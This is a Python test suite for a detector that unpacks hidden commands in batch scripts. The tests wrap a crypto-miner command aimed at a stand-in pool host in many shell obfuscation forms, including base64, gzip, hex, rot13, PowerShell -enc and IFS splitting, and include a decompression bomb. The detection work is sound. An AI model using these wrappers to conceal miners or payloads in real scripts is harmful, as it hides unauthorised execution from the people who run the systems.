"""Hidden commands are found, whatever hides them; open scripts hide nothing, and hostile ones cost little."""

import base64
import bz2
import codecs
import gzip
import time
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tocsin.workload.signs.unpack import MOST_BYTES, MOST_DEPTH, MOST_PIECES, unpack

COMMAND = "./worker -o stratum+tcp://pool.example.org:3333 -u 4Axyz -p x"


def encoded(content: bytes) -> str:
    return base64.b64encode(content).decode()


HIDDEN = {
    "base64": f"echo {encoded(COMMAND.encode())} | base64 -d | sh",
    "with Chinese text": f"echo {encoded(f'echo 我们将在接到举报后封禁地址; {COMMAND}'.encode())} | base64 -d | sh",
    "eval": f'eval "$(echo {encoded(COMMAND.encode())}|base64 --decode)"',
    "python": f"python3 -c \"import base64;exec(base64.b64decode('{encoded(COMMAND.encode())}'))\"",
    "gzip": f"echo {encoded(gzip.compress(COMMAND.encode()))} | base64 -d | gunzip | bash",
    "zlib": f"echo {encoded(zlib.compress(COMMAND.encode()))} | x",
    "bzip2": f"echo {encoded(bz2.compress(COMMAND.encode()))} | base64 -d | bunzip2 | sh",
    "hex": f"echo {COMMAND.encode().hex()} | xxd -r -p | sh",
    "spaced hex": f"echo {COMMAND.encode().hex(' ')} | xxd -r -p | sh",
    "escapes": "printf '" + "".join(f"\\x{byte:02x}" for byte in COMMAND.encode()) + "' | sh",
    "octal": "printf '" + "".join(f"\\{byte:03o}" for byte in COMMAND.encode()) + "' | sh",
    "base32": f"echo {base64.b32encode(COMMAND.encode()).decode()} | base32 -d | sh",
    "reversed": f"echo '{COMMAND[::-1]}' | rev | sh",
    "rot13": f"echo '{codecs.encode(COMMAND, 'rot13')}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
    "utf-16": f"pwsh -enc {encoded(COMMAND.encode('utf-16-le'))}",
    "url-safe": f"echo {base64.urlsafe_b64encode(COMMAND.encode()).decode().rstrip('=')} | x",
    "IFS": COMMAND.replace(" ", "${IFS}"),
    "quotes": COMMAND.replace("worker", "wor''ker"),
    "backslashes": COMMAND.replace("worker", "w\\o\\r\\k\\er"),
}


@pytest.mark.parametrize("way", HIDDEN)
def test_a_hidden_command_is_found_with_its_line(way: str) -> None:
    found = unpack(f"#!/bin/bash\n#SBATCH -n 1\n{HIDDEN[way]}\n").found
    assert any(COMMAND in hidden.text for hidden in found), found
    assert {hidden.line for hidden in found} == {3}


def test_a_payload_of_many_lines_is_one(tmp_path: object) -> None:
    payload = encoded(gzip.compress((COMMAND + "\n").encode() * 20))
    lines = [payload[i : i + 40] for i in range(0, len(payload), 40)]
    assert len(lines) > 2
    for prefix in ("", "# "):
        text = "tail -n +4 $0 | base64 -d | gunzip | sh\nexit\n\n" + "\n".join(
            prefix + line for line in lines
        )
        assert any(COMMAND in hidden.text and hidden.line == 4 for hidden in unpack(text).found)


def test_pieces_in_variables_are_put_together() -> None:
    payload = encoded(COMMAND.encode())
    text = f"A={payload[:30]}\nB='{payload[30:]}'\necho $A${{B}} | base64 -d | sh\n"
    assert any(hidden == (3, COMMAND) for hidden in unpack(text).found)


def test_what_is_hidden_twice_is_found_at_the_line_of_the_first() -> None:
    twice = encoded(HIDDEN["base64"].encode())
    assert any(hidden == (2, COMMAND) for hidden in unpack(f"cd /tmp\necho {twice} | base64 -d | sh").found)


def test_more_than_is_unpacked_is_told_with_its_line() -> None:
    text = COMMAND
    for depth in range(MOST_DEPTH + 2):
        text = f"echo {encoded(text.encode())} | base64 -d | sh"
        assert unpack(f"cd /tmp\n{text}").beyond == ([2] if depth >= MOST_DEPTH else [])
    large = unpack(f"echo {encoded(b'a b; ' * 400_000)} | base64 -d | sh")
    assert (len(large.found[0].text), large.beyond) == (MOST_BYTES, [1])
    assert unpack("\n".join(f"echo {encoded(f'{COMMAND} {n}'.encode())}" for n in range(500))).beyond


@pytest.mark.parametrize(
    "text",
    [
        "module load gcc/12.2.0\nsrun ./simulate --input /home/ann/project/data/run_0001.nc --steps 10000\n",
        "echo -e '\\033[1;31mred\\033[0m'\nprintf 'a\\tb\\n'\n",
        "sha256sum -c <<< 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  x'\n",
        "",
    ],
)
def test_an_open_script_hides_nothing(text: str) -> None:
    assert unpack(text) == ([], [])


def test_a_bomb_is_bounded() -> None:
    bomb = encoded(zlib.compress(b"run it " * 20_000_000))
    began = time.process_time()
    found = unpack(f"echo {bomb} | base64 -d | x").found
    assert sum(len(hidden.text) for hidden in found) <= MOST_BYTES
    assert len(unpack("\n".join(encoded(f"{COMMAND} {n}".encode()) for n in range(500))).found) <= MOST_PIECES
    assert time.process_time() - began < 5


@settings(max_examples=100, deadline=None)
@given(
    st.text(alphabet=st.characters(codec="utf-8"), max_size=400)
    | st.text("\\x41'\"$ {}=ABab\n|", max_size=300)
)
def test_any_text_is_taken(text: str) -> None:
    for hidden in unpack(text).found:
        assert hidden.text
        assert 1 <= hidden.line <= text.count("\n") + 1
